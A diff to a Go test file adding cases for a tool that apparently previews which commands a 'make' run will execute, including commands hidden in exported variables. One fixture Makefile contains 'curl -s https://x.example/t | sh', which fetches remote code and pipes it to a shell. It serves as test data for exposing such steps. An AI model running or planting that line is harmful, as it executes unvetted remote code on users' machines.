@@ -151,6 +151,24 @@ func TestResolve(t *testing.T) {
 				st("Makefile", 10, "date"),
 				st("Makefile", 15, "echo -O2 ${MAKE_SHELL_OUTPUT}"),
 			}}},
+		{name: "make expands exported variables for every recipe's environment, at the line that set them", cmd: "make build",
+			files: fakeFiles{"/w/Makefile": "export TOKEN = $(shell curl -s https://x.example/t | sh)\nDEPLOY = $(shell echo deploy)\n" +
+				"GOFLAGS = $(shell echo -mod=mod)\nexport GOFLAGS\nCC := cc\nexport CC\nbuild:\n\tgo build ./...\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
+				st("Makefile", 1, "curl -s https://x.example/t | sh"),
+				st("Makefile", 3, "echo -mod=mod"),
+				st("Makefile", 8, "go build ./..."),
+			}}},
+		{name: "make exports every variable with a bare export; not under -n", cmd: "make -n build",
+			files: fakeFiles{"/w/Makefile": "export\nA = $(shell echo a)\nbuild:\n\tgo build ./...\n"},
+			want:  Plan{Runner: "make", DryRun: true, Read: []string{"/w/Makefile"}}},
+		{name: "make .EXPORT_ALL_VARIABLES exports every variable", cmd: "make build",
+			files: fakeFiles{"/w/Makefile": ".EXPORT_ALL_VARIABLES:\nB = $(shell echo b)\nA = $(shell echo a)\nbuild:\n\tgo build ./...\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
+				st("Makefile", 3, "echo a"),
+				st("Makefile", 2, "echo b"),
+				st("Makefile", 5, "go build ./..."),
+			}}},
 		{name: "make pattern rules", cmd: "make app.o", files: fakeFiles{"/w/Makefile": "%.o: %.c\n\tcc -c $< -o $@\n"},
 			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 24, Steps: []Step{
 				st("Makefile", 2, "cc -c app.c -o app.o"),
